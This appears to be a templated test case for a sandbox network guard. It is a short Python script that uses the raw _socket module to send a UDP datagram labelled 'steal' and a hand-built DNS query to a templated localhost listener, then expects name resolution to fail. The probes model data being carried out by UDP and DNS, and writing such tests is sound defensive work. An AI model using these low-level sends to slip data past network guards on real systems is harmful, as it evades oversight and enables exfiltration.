# route: UDP below the guard, a DNS query to the outside listener, and a DNS lookup of a name
# expect: *gaierror*
import _socket

udp = _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM)
udp.sendto(b"steal", ("127.0.0.1", {{ udp_port }}))
query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x03api\x07example\x03com\x00\x00\x01\x00\x01"
udp.sendto(query, ("127.0.0.1", {{ udp_port }}))
print(_socket.getaddrinfo("api.example.com", 443))
